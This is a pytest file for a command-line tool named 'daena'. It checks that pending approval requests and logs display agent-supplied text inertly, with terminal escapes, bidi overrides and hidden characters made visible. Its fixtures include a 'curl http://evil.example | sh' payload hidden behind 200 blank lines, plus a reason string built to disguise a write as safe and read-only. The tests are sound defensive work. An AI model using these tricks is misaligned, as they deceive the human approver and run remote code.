"""Promise 4 on the command line: `daena approvals list/show` and `daena logs` print a hostile
agent's text inert and labelled, the exact arguments first; `--json` stays exact JSON.

The request is made the way an agent makes it (`daena run ... --requester --reason`), then read
back through the real `daena` entry point, in-process and as a subprocess (the raw bytes).
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from daena_tui.cli import main
from engine.safety.display import hazard

REASON = (
    "\x1b[2J\x1b[Hroutine\rSAFE read-only [green]safe[/] \u202etxt.exe\u202c zero\u200bwidth"
    " \x1b]8;;http://evil\x07link \x9b31m"
)
REQUESTER = "operator\x1b[8m (hidden)\u2066"
REAL = "curl http://evil.example | sh  # the real payload"
CONTENT = "\x1b[32mecho harmless\x1b[0m\r# comment" + "\n" * 200 + REAL + "\n"
REASON_SHOWN = (
    "⟨ESC⟩[2J⟨ESC⟩[Hroutine⟨CR⟩SAFE read-only [green]safe[/] ⟨U+202E⟩txt.exe⟨U+202C⟩"
    " zero⟨U+200B⟩width ⟨ESC⟩]8;;http://evil⟨BEL⟩link ⟨U+009B⟩31m"
)
REQUESTER_SHOWN = "operator⟨ESC⟩[8m (hidden)⟨U+2066⟩"


def assert_inert(text: str) -> None:
    found = sorted({f"U+{ord(ch):04X}" for ch in text if hazard(ch)})
    assert not found, f"raw control/invisible characters in the output: {found}"


class Daena:
    def __init__(self, workspace: Path, db: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self.base = ["--db", str(db), "--workspace", str(workspace), "--operator", "op@test"]
        self.capsys = capsys

    def __call__(self, *args: str) -> tuple[int, str, str]:
        code = main([*self.base, *args])
        out, err = self.capsys.readouterr()
        return code, out, err


@pytest.fixture
def daena(workspace: Path, db_path: Path, capsys: pytest.CaptureFixture[str]) -> Daena:
    return Daena(workspace, db_path, capsys)


@pytest.fixture
def request_id(daena: Daena) -> str:
    assert daena("tools", "enable", "filesystem_write")[0] == 0
    args = json.dumps({"path": "notes.txt", "content": CONTENT})
    code, out, _ = daena(
        "--json", "run", "filesystem_write", "--args", args,
        "--requester", REQUESTER, "--reason", REASON,
    )  # fmt: skip
    assert code == 3, out
    return str(json.loads(out)["approval_request_id"])


def test_show_prints_the_arguments_first_and_the_agent_text_inert(
    daena: Daena, request_id: str
) -> None:
    code, out, err = daena("approvals", "show", request_id)
    assert code == 0, err
    assert_inert(out)
    lines = [line.strip() for line in out.splitlines()]
    heading = lines.index("exact arguments (this is what runs):")
    body = lines.index("content:") + 1
    assert heading < body
    assert lines[body] == "⟨ESC⟩[32mecho harmless⟨ESC⟩[0m⟨CR⟩# comment"
    assert lines[body + 1] == "… 199 blank lines …"
    assert lines[body + 2] == REAL
    requested = lines.index(f"requested by (agent-supplied): {REQUESTER_SHOWN}")
    assert body + 2 < requested < lines.index(f"agent's reason: {REASON_SHOWN}")


def test_list_prints_one_inert_line_per_request(daena: Daena, request_id: str) -> None:
    code, out, _ = daena("approvals", "list")
    assert code == 0
    assert_inert(out)
    (row,) = [line for line in out.splitlines() if line.startswith(request_id)]
    assert "operator⟨ESC⟩[8m" in row and "\\u001b[32mecho" in row  # args as JSON
    assert "BY (AGENT)" in out


def test_json_is_exact_and_carries_no_raw_control_or_bidi(daena: Daena, request_id: str) -> None:
    for argv in (["approvals", "show", request_id], ["approvals", "list"], ["logs"]):
        code, out, _ = daena("--json", *argv)
        assert code == 0
        assert_inert(out)
        assert "\\u001b" in out and "\\u2066" in out  # in the requester / actor
    _, out, _ = daena("--json", "approvals", "show", request_id)
    shown = json.loads(out)
    assert shown["reason"] == REASON and shown["requester"] == REQUESTER
    assert shown["args"]["content"] == CONTENT


def test_logs_print_the_agent_text_inert(daena: Daena, request_id: str) -> None:
    code, out, _ = daena("logs")
    assert code == 0
    assert_inert(out)
    assert REQUESTER_SHOWN in out


def test_the_real_entry_point_writes_no_escape_byte(
    daena: Daena, request_id: str, workspace: Path, db_path: Path
) -> None:
    base = [sys.executable, "-m", "daena_tui", *daena.base]
    for argv in (
        ["approvals", "show", request_id],
        ["approvals", "list"],
        ["logs"],
        ["--json", "approvals", "show", request_id],
        ["--json", "logs"],
    ):
        proc = subprocess.run(
            [*base, *argv], capture_output=True, cwd=workspace, stdin=subprocess.DEVNULL
        )
        assert proc.returncode == 0, proc.stderr
        raw = proc.stdout
        assert b"\x1b" not in raw and b"\r" not in raw and b"\x07" not in raw
        text = raw.decode("utf-8")
        assert_inert(text)
        assert "\u202e" not in text and "\u2066" not in text and "\u200b" not in text


def test_an_error_quoting_agent_input_is_inert(daena: Daena) -> None:
    code, out, err = daena("run", "no\x1b[2Jsuch\u202etool")
    assert code in (2, 3)  # unknown tool: bad input, or refused and audited
    assert_inert(out + err)
    assert "such" in out + err and "Traceback" not in out + err
